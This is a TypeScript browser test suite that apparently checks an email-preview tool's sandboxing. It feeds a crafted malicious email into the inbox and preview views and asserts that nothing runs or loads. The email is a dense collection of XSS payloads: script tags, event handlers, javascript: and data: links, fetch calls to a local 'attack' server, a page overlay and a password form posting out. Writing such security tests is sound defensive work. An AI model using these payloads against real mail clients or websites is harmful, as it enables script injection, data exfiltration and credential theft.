// A malicious email, in the inbox and in the preview: no script runs, nothing is loaded, the page is not covered.
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { replaceText, usePageFixture } from './support/page-fixture.ts';

const fixture = usePageFixture();
let attackServer: Server;
let attackUrl = '';
let receivedRequests: string[] = [];

beforeAll(async () => {
  attackServer = createServer((request, response) => {
    receivedRequests.push(`${request.method} ${request.url}`);
    response.end('received');
  }).listen(0, '127.0.0.1');
  await once(attackServer, 'listening');
  attackUrl = `http://127.0.0.1:${(attackServer.address() as AddressInfo).port}`;
});
afterAll(() => attackServer.close());
beforeEach(() => {
  receivedRequests = [];
});

const maliciousHtml = () => `<!doctype html><html lang="en" onclick="top.document.title='owned'"><head>
<base href="${attackUrl}/">
<meta http-equiv="refresh" content="0;url=${attackUrl}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<meta name="color-scheme" content="light dark">
<link rel="stylesheet" href="${attackUrl}/link.css"><link rel="prefetch" href="${attackUrl}/prefetch"><link rel="icon" href="${attackUrl}/icon">
<style>@import url("${attackUrl}/import.css"); @font-face { font-family: x; src: url("${attackUrl}/font") }
body { font-family: x; background: url("${attackUrl}/background") }
.cover { position: fixed; inset: -9999px; z-index: 2147483647; background: red; pointer-events: none }</style>
<script src="${attackUrl}/script.js"></script><script>top.document.title = 'owned'; fetch('${attackUrl}/fetch'); alert(1)</script></head>
<body onload="top.document.title='owned'; location='${attackUrl}/onload'">
<p id="words">Your code is 666777</p>
<img src="${attackUrl}/image" srcset="${attackUrl}/srcset 2x" onerror="top.document.title='owned'" alt="">
<img src="x:y" onerror="fetch('${attackUrl}/onerror')" alt=""><svg onload="top.document.title='owned'"><image href="${attackUrl}/svg"/></svg>
<video src="${attackUrl}/video" autoplay></video><audio src="${attackUrl}/audio" autoplay></audio><object data="${attackUrl}/object"></object>
<embed src="${attackUrl}/embed"><iframe src="${attackUrl}/iframe"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<p><a class="attack" href="javascript:top.document.title='owned'">script link</a>
<a class="attack" href="${attackUrl}/self" target="_self">self</a> <a class="attack" href="${attackUrl}/top" target="_top">top</a>
<a class="attack" href="${attackUrl}/blank" target="_blank">blank</a> <a class="attack" href="data:text/html,<script>alert(1)</script>" target="_self">data</a></p>
<form action="${attackUrl}/form" method="post" target="_top"><input name="password" autofocus><button class="attack">Sign in</button></form>
<div class="cover"></div></body></html>`;

/** What the browser logs when it blocks one of them. */
const blockedMessages =
  /Content Security Policy|sandbox|Blocked|Refused|Not allowed|preload|violates|ERR_BLOCKED|ERR_ABORTED|ERR_UNKNOWN_URL_SCHEME|x:y| csp$/i;

async function expectNoEffect(page: Page, frame: FrameLocator): Promise<void> {
  await frame.locator('#words').waitFor();
  const address = page.url();
  const title = await page.title();
  const links = frame.locator('.attack');
  const linkCount = await links.count();
  expect(linkCount).toBe(6);
  for (let index = 0; index < linkCount; index += 1) {
    await links.nth(index).click({ force: true, noWaitAfter: true });
    await page.waitForTimeout(60);
  }
  await page.waitForTimeout(400);
  expect(receivedRequests).toEqual([]);
  expect(await page.title()).toBe(title);
  expect(page.url()).toBe(address);
  expect(
    await page.evaluate('[...document.querySelectorAll("iframe")].map((frame) => frame.getAttribute("sandbox"))'),
  ).toEqual(['']);
  // The overlay covers its own frame only: the page's navigation is still on top.
  const top = await page.evaluate(
    '(({ x, y }) => document.elementFromPoint(x + 8, y + 8).closest("nav") !== null)(document.querySelector("nav a").getBoundingClientRect())',
  );
  expect(top).toBe(true);
  await page.getByRole('link', { name: 'Faults' }).click();
  await page.getByTestId('view-faults').waitFor();
}

describe('a malicious email has no effect', () => {
  it('in the inbox', async () => {
    await fixture.post({ subject: '<script>alert(1)</script><img src=x onerror=alert(1)>', html: maliciousHtml() });
    const page = await fixture.open('#/inbox', { expectedProblems: blockedMessages });
    await page.locator('[data-message-id]').click();
    await page.getByText('Remote images are not loaded here').waitFor();
    await expectNoEffect(page, page.frameLocator('.email-frame'));
  });

  it('in the preview', async () => {
    const page = await fixture.open('#/configure', { expectedProblems: blockedMessages });
    await replaceText(page, 'Deliveries', JSON.stringify({ Generic: { subject: 'Hi', html: maliciousHtml() } }));
    await page.goto(`${fixture.studio.url}/#/preview/Generic`);
    await expectNoEffect(page, page.frameLocator('.email-frame:not(.email-frame-loading)'));
  });

  it('in the list of links, where only web addresses are links', async () => {
    await fixture.post({
      subject: 'Links',
      html: '<p><a href="javascript:alert(1)">a</a> <a href="https://example.com/ok">b</a></p>',
    });
    const page = await fixture.open('#/inbox');
    await page.locator('[data-message-id]').click();
    await page.getByRole('tab', { name: 'Links' }).click();
    const hrefs = await page.locator('.links a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs).toEqual(['https://example.com/ok']);
  });
});
